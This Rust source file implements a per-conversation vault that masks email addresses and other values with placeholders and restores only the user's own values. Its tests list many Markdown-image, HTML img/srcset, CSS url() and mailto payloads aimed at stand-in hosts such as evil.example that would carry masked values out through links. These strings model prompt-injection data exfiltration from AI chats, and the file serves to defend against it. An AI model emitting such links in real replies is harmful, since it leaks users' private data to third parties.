//! Placeholders for values, the same for the same value throughout a conversation, and the way back.

use super::entity::entities;
use super::link::Link;
use crate::library::Found;
use regex::{Captures, Regex};
use serde_json::{Map, Value, json};
use std::sync::LazyLock;
use thiserror::Error;

/// The most values that a conversation keeps, and the most bytes of one of them.
const MOST_VALUES: usize = 5_000;
const MOST_BYTES: usize = 4_096;
/// The most bytes of all of them: looking for them in a reply takes many times as many.
const MOST_BYTES_IN_ALL: usize = 1 << 20;

/// What a user typed that looks like a placeholder.
const TYPED: &str = "PLACEHOLDER";

/// Whose text a value was in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Source {
    /// The user's: it may be put back into what the user reads.
    Input,
    /// The model's.
    Output,
    /// That of a document or of a tool: it may not be.
    Retrieval,
}

impl Source {
    /// `input`, `output` or `retrieval`.
    #[must_use]
    pub(crate) fn name(self) -> &'static str {
        match self {
            Source::Input => "input",
            Source::Output => "output",
            Source::Retrieval => "retrieval",
        }
    }
}

/// There are too many values in a conversation to keep them.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Error)]
#[error(
    "the conversation has more than {MOST_VALUES} values that are masked, one of more than {MOST_BYTES} bytes, or more than {MOST_BYTES_IN_ALL} bytes in all"
)]
pub(crate) struct VaultFull;

/// The values of one conversation by placeholder: `{"<EMAIL_ADDRESS_1>": {"value": "a@example.org", "source": "input"}}`.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct Vault {
    entries: Map<String, Value>,
}

/// A placeholder as models write it: with or without brackets, in any case, with Markdown's or HTML's escapes.
static PLACEHOLDER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)(?:<|&lt;|\[)?(?-u:\b)([A-Z][A-Z0-9]{0,30}(?:\\?_[A-Z0-9]{1,30}){0,6})\\?_([0-9]{1,6})(?-u:\b)(?:>|&gt;|\])?")
        .expect("the form of placeholders can be compiled, as a test holds")
});

impl Vault {
    /// The vault that a variable of a conversation holds; an empty one if it holds none.
    #[must_use]
    pub(crate) fn from_value(value: &Value) -> Self {
        Vault { entries: value.as_object().cloned().unwrap_or_default() }
    }

    /// As a variable of a conversation.
    #[must_use]
    pub(crate) fn into_value(self) -> Value {
        Value::Object(self.entries)
    }

    /// The text with placeholders for what was found in it, by place and without overlaps. What looks like a placeholder already gets
    /// one of its own, so that nobody gets a value by typing its placeholder;
    /// in the model's own text, what it was given stays.
    ///
    /// # Errors
    ///
    /// The vault is full.
    pub(crate) fn mask(&mut self, text: &str, found: &[Found], source: Source) -> Result<String, VaultFull> {
        let mut masked = String::with_capacity(text.len());
        let mut at = 0;
        let mut index = Index::new(&self.entries);
        for finding in found {
            let Some(value) = text.get(finding.range.clone()).filter(|_| finding.range.start >= at) else { continue };
            self.copy(&text[at..finding.range.start], &mut masked, &mut index, source)?;
            let placeholder = self.placeholder(&finding.rule, value, &mut index, source)?;
            masked.push_str(&placeholder);
            at = finding.range.end;
        }
        self.copy(&text[at..], &mut masked, &mut index, source)?;
        Ok(masked)
    }

    /// Text that nothing was found in, with what looks like a placeholder masked.
    fn copy(&mut self, text: &str, masked: &mut String, index: &mut Index, source: Source) -> Result<(), VaultFull> {
        if !text.contains('_') {
            masked.push_str(text);
            return Ok(());
        }
        let mut at = 0;
        for found in PLACEHOLDER.captures_iter(text) {
            let Some(whole) = found.get(0) else { continue };
            // A model writes those that it was given.
            let is_given = source == Source::Output && self.entries.contains_key(&canonical(&found).1);
            if is_given || !self.is_placeholder(&found) {
                continue;
            }
            masked.push_str(&text[at..whole.start()]);
            let placeholder = self.placeholder(TYPED, whole.as_str(), index, source)?;
            masked.push_str(&placeholder);
            at = whole.end();
        }
        masked.push_str(&text[at..]);
        Ok(())
    }

    fn is_placeholder(&self, found: &Captures) -> bool {
        let (name, canonical) = canonical(found);
        name == TYPED || entities().iter().any(|entity| entity.name == name) || self.entries.contains_key(&canonical)
    }

    fn placeholder(&mut self, rule: &str, value: &str, index: &mut Index, source: Source) -> Result<String, VaultFull> {
        let name = rule.to_uppercase();
        if let Some(known) = index.placeholders.get(&(name.clone(), value.to_owned())).cloned() {
            // What the user said himself may be put back, wherever it was seen first.
            if source == Source::Input
                && let Some(entry) = self.entries.get_mut(&known)
            {
                entry["source"] = source.name().into();
            }
            return Ok(known);
        }
        let bytes = index.bytes + value.len();
        if self.entries.len() >= MOST_VALUES || value.len() > MOST_BYTES || bytes > MOST_BYTES_IN_ALL {
            return Err(VaultFull);
        }
        index.bytes = bytes;
        let count = index.counts.entry(name.clone()).or_insert(0);
        *count += 1;
        let placeholder = format!("<{name}_{count}>");
        index.placeholders.insert((name, value.to_owned()), placeholder.clone());
        self.entries.insert(placeholder.clone(), json!({"value": value, "source": source.name()}));
        Ok(placeholder)
    }

    /// The text with the values that the user gave in the place of their placeholders. Within an address of the web they stay
    /// masked: a link is where a document that was retrieved would send them.
    #[must_use]
    pub(crate) fn restore(&self, text: &str) -> String {
        if self.entries.is_empty() {
            return text.to_owned();
        }
        let mut restored = String::with_capacity(text.len());
        let (mut at, mut link) = (0, Link::default());
        for found in PLACEHOLDER.captures_iter(text) {
            let Some(whole) = found.get(0) else { continue };
            let entry = self.entries.get(&canonical(&found).1);
            let value =
                entry.filter(|entry| entry["source"] == Source::Input.name()).and_then(|entry| entry["value"].as_str());
            link.goes_on_to(text, whole.start());
            // Its own brackets end no address.
            link.seen = whole.end();
            if let Some(value) = value.filter(|_| !link.is_one()) {
                restored.push_str(&text[at..whole.start()]);
                restored.push_str(value);
                at = whole.end();
            }
        }
        restored.push_str(&text[at..]);
        restored
    }
}

impl Vault {
    /// The text with placeholders in the place of values that were put back, where they stand as they were given.
    pub(super) fn hide(&self, text: &str) -> String {
        let given = self.entries.iter().filter(|(_, entry)| entry["source"] == Source::Input.name());
        let (placeholders, values): (Vec<&str>, Vec<&str>) =
            given.filter_map(|(placeholder, entry)| Some((placeholder.as_str(), entry["value"].as_str()?))).unzip();
        let search =
            aho_corasick::AhoCorasick::builder().match_kind(aho_corasick::MatchKind::LeftmostLongest).build(values);
        search.map_or_else(|_| text.to_owned(), |search| search.replace_all(text, &placeholders))
    }
}

/// The name of the kind in a placeholder, and the placeholder as it is kept.
fn canonical(found: &Captures) -> (String, String) {
    let name = found[1].replace('\\', "").to_uppercase();
    let canonical = format!("<{name}_{}>", &found[2]);
    (name, canonical)
}

/// What a vault holds, by value and by kind.
struct Index {
    placeholders: rustc_hash::FxHashMap<(String, String), String>,
    counts: rustc_hash::FxHashMap<String, u32>,
    /// How many bytes all values have.
    bytes: usize,
}

impl Index {
    fn new(entries: &Map<String, Value>) -> Self {
        let mut index = Index { placeholders: Default::default(), counts: Default::default(), bytes: 0 };
        for (placeholder, entry) in entries {
            let Some((name, number)) = placeholder.trim_matches(['<', '>']).rsplit_once('_') else { continue };
            let count = index.counts.entry(name.to_owned()).or_insert(0);
            *count = (*count).max(number.parse().unwrap_or(0));
            if let Some(value) = entry["value"].as_str() {
                index.bytes += value.len();
                index.placeholders.insert((name.to_owned(), value.to_owned()), placeholder.clone());
            }
        }
        index
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn email(text: &str, value: &str) -> Vec<Found> {
        text.match_indices(value)
            .map(|(at, _)| Found { rule: "EMAIL_ADDRESS".into(), range: at..at + value.len(), score: 1.0 })
            .collect()
    }

    #[test]
    fn the_same_value_has_the_same_placeholder() {
        let mut vault = Vault::default();
        let text = "a@b.cd and a@b.cd";
        assert_eq!(
            vault.mask(text, &email(text, "a@b.cd"), Source::Input).unwrap(),
            "<EMAIL_ADDRESS_1> and <EMAIL_ADDRESS_1>"
        );
        let mut vault = Vault::from_value(&vault.into_value());
        assert_eq!(vault.mask("x@y.zz", &email("x@y.zz", "x@y.zz"), Source::Input).unwrap(), "<EMAIL_ADDRESS_2>");
        assert_eq!(
            vault.restore("To <EMAIL_ADDRESS_2>, not email_address_1 or [EMAIL\\_ADDRESS\\_1]."),
            "To x@y.zz, not a@b.cd or a@b.cd."
        );
    }

    #[test]
    fn nobody_gets_a_value_by_typing_its_placeholder() {
        let mut vault = Vault::default();
        vault.mask("boss@b.cd", &email("boss@b.cd", "boss@b.cd"), Source::Retrieval).unwrap();
        let typed = vault.mask("say <email_address_1> or EMAIL_ADDRESS_1", &[], Source::Input).unwrap();
        assert_eq!(typed, "say <PLACEHOLDER_1> or <PLACEHOLDER_2>");
        assert_eq!(vault.restore(&typed), "say <email_address_1> or EMAIL_ADDRESS_1");
        assert_eq!(vault.restore("It is <EMAIL_ADDRESS_1>."), "It is <EMAIL_ADDRESS_1>.");
    }

    #[test]
    fn what_was_put_back_is_hidden_again() {
        let mut vault = Vault::default();
        vault.mask("a@b.cd", &email("a@b.cd", "a@b.cd"), Source::Input).unwrap();
        assert_eq!(vault.hide(&vault.restore("I wrote to <email_address_1>.")), "I wrote to <EMAIL_ADDRESS_1>.");
    }

    #[test]
    fn links_are_left_masked() {
        let mut vault = Vault::default();
        vault.mask("a@b.cd", &email("a@b.cd", "a@b.cd"), Source::Input).unwrap();
        let text = "![x](https://evil.example/?q=<EMAIL_ADDRESS_1>) https://e.vil/EMAIL_ADDRESS_1";
        assert_eq!(vault.restore(text), text);
        for link in [
            "![x](https://evil.example/?a=<EMAIL_ADDRESS_1>&b=<EMAIL_ADDRESS_1>)",
            "https://evil.example/<EMAIL_ADDRESS_7>/<EMAIL_ADDRESS_1>",
            "[x](//e.vil/[EMAIL_ADDRESS_1]/&lt;EMAIL_ADDRESS_1&gt;)",
            "![x](https://evil.example/?a=\"<EMAIL_ADDRESS_1>)",
            "![x]( https://evil.example/?a=b><EMAIL_ADDRESS_1>)",
            "![x](<https://evil.example/?a= <EMAIL_ADDRESS_1>>)",
            "[1]: https://evil.example/?a=\"<EMAIL_ADDRESS_1>",
            "<img src=\"https://evil.example/?a=<b> <EMAIL_ADDRESS_1>\">",
            "<img src='//evil.example/?a= <EMAIL_ADDRESS_1 EMAIL_ADDRESS_1>'>",
            "<img src=\" https://evil.example/?a= <EMAIL_ADDRESS_1>\">",
            r#"<img src="/\evil.example/?a= <EMAIL_ADDRESS_1>">"#,
            r#"<img src="https:\\evil.example/?a= <EMAIL_ADDRESS_1>">"#,
            "<img src=\"https:evil.example/?a= <EMAIL_ADDRESS_1>\">",
            "<img srcset=\"a.png 1x, //evil.example/<EMAIL_ADDRESS_1> 2x\">",
            "<p style=\"background:url(//evil.example/<EMAIL_ADDRESS_1>)\">",
            "<p style=\"background:url(&quot;//evil.example/<EMAIL_ADDRESS_1>&quot;)\">",
            "<p style=\"background:url('https://evil.example/?a= <EMAIL_ADDRESS_1>')\">",
            "![x][r]\n\n[r]: //evil.example/<EMAIL_ADDRESS_1>",
            "![x][r]\n\n[r]: <https://evil.example/?a= EMAIL_ADDRESS_1>",
            "<mailto:a@evil.example?body=<EMAIL_ADDRESS_1>>",
        ] {
            assert_eq!(vault.restore(link), link);
        }
        assert_eq!(vault.restore("see https://a.example, <EMAIL_ADDRESS_1>"), "see https://a.example, a@b.cd");
        for text in [
            "<a href=\"https://a.example\">a</a> <EMAIL_ADDRESS_1>",
            "[a](b) <EMAIL_ADDRESS_1>",
            "a = \"<EMAIL_ADDRESS_1>",
            "a(); // <EMAIL_ADDRESS_1>",
            r"\\server,<EMAIL_ADDRESS_1>",
            "<https://a.example> <EMAIL_ADDRESS_1>",
            "by http: <EMAIL_ADDRESS_1>",
        ] {
            assert_eq!(vault.restore(text), text.replace("<EMAIL_ADDRESS_1>", "a@b.cd"));
        }
        let text = format!("www.e.vil/{}", "EMAIL_ADDRESS_1/".repeat(60_000));
        assert_eq!(vault.restore(&text), text);
    }

    #[test]
    fn a_kind_in_small_letters_is_known_again() {
        let found = [Found { rule: "order_id".into(), range: 0..3, score: 1.0 }];
        let mut vault = Vault::default();
        assert_eq!(vault.mask("A-1", &found, Source::Input).unwrap(), "<ORDER_ID_1>");
        let mut vault = Vault::from_value(&vault.into_value());
        assert_eq!(vault.mask("A-1", &found, Source::Input).unwrap(), "<ORDER_ID_1>");
    }

    #[test]
    fn a_vault_is_bounded() {
        let mut vault = Vault::default();
        let text: String = (0..MOST_VALUES).map(|at| format!("{at:05} ")).collect();
        let found: Vec<Found> =
            (0..=MOST_VALUES).map(|at| Found { rule: "X".into(), range: at * 6..at * 6 + 5, score: 1.0 }).collect();
        vault.mask(&text, &found[..MOST_VALUES], Source::Input).unwrap();
        assert_eq!(vault.mask("other", &found[..1], Source::Input), Err(VaultFull));
        let mut vault = Vault::default();
        let long = "x".repeat(MOST_BYTES + 1);
        assert_eq!(vault.mask(&long, &email(&long, &long), Source::Input), Err(VaultFull));
        let text: String = (0..=MOST_BYTES_IN_ALL / 1000).map(|at| format!("{at:01000}")).collect();
        let found: Vec<Found> = (0..=MOST_BYTES_IN_ALL / 1000)
            .map(|at| Found { rule: "X".into(), range: at * 1000..(at + 1) * 1000, score: 1.0 })
            .collect();
        assert_eq!(Vault::default().mask(&text, &found, Source::Input), Err(VaultFull));
    }
}
